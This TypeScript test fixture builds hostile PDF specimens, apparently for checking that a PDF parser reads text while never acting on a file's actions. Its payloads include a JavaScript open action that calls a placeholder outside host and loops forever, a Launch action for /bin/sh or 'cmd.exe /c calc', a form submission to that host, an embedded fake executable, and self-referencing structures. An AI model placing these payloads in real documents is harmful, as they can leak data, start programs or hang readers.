/** Documents that want something done: run, opened, sent, filled in. Nothing of it is, and their text is read. */
import { onePage } from './raw-pdf.ts';
import type { Specimens } from './specimens.ts';

/** Nobody is to be asked for this. */
const ELSEWHERE = 'https://ailleurs.example.org/appel';

const opening = (action: string) => onePage({ catalogue: `/OpenAction << /Type /Action ${action} >>` });
const link = (action: string) =>
  onePage({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A << ${action} >> >>] /AA << /O << ${action} >> >>`,
  });

const SCRIPT = `app.launchURL("${ELSEWHERE}"); while (true) {}`;
const XFA = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event></subform></template></xdp:xdp>`;

export const ACTIONS: Specimens = {
  'a script when it opens': () => opening(`/S /JavaScript /JS (${SCRIPT.replaceAll(/[()]/g, '\\$&')})`),
  'a script by name': () =>
    onePage({ catalogue: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>' }),
  'a program to start': () => opening('/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>'),
  'an address to open': () => opening(`/S /URI /URI (${ELSEWHERE})`),
  'an address to open on every page': () => link(`/S /URI /URI (${ELSEWHERE})`),
  'another document to go to': () => opening(`/S /GoToR /F << /FS /URL /F (${ELSEWHERE}) >> /D [0 /Fit]`),
  'a form to send': () => opening(`/S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}) >> /Flags 4`),
  'data to bring in': () => link(`/S /ImportData /F << /FS /URL /F (${ELSEWHERE}) >>`),
  'a film to play': () =>
    link(`/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${ELSEWHERE}) >> >> >>`),
  'actions that follow themselves': () =>
    onePage({ catalogue: '/OpenAction 10 0 R', more: { 10: '<< /S /Named /N /NextPage /Next 10 0 R >>' } }),
  'a file within': () =>
    onePage({
      catalogue:
        '/Names << /EmbeddedFiles << /Names [(virus.exe) << /Type /Filespec /F (virus.exe) /EF << /F 10 0 R >> >>] >> >>',
      more: { 10: { dictionary: '/Type /EmbeddedFile', bytes: 'MZ'.repeat(1_000) } },
    }),
  'a form of XML with a script': () =>
    onePage({
      catalogue: '/AcroForm << /Fields [] /XFA 10 0 R /NeedAppearances true >>',
      more: { 10: { dictionary: '', bytes: XFA } },
    }),
  'a form whose fields are in a circle': () =>
    onePage({
      catalogue: '/AcroForm << /Fields [10 0 R] >>',
      more: { 10: '<< /T (a) /Kids [10 0 R] /Parent 10 0 R >>' },
    }),
  'an outline in a circle': () =>
    onePage({ catalogue: '/Outlines 10 0 R', more: { 10: '<< /First 10 0 R /Next 10 0 R /Last 10 0 R /Count 9 >>' } }),
  'layers in a circle': () =>
    onePage({
      content: '/OC /L BDC BT /F1 12 Tf (x) Tj ET EMC',
      resources: '/Properties << /L 10 0 R >>',
      catalogue: '/OCProperties << /OCGs [10 0 R] /D << /Order [10 0 R] >> >>',
      more: { 10: '<< /Type /OCMD /VE [/And 10 0 R] /OCGs [10 0 R] >>' },
    }),
  'structure in a circle': () =>
    onePage({
      catalogue: '/MarkInfo << /Marked true >> /StructTreeRoot 10 0 R',
      page: '/StructParents 0',
      more: { 10: '<< /Type /StructTreeRoot /K 10 0 R /ParentTree << /Kids [10 0 R] >> >>' },
    }),
};
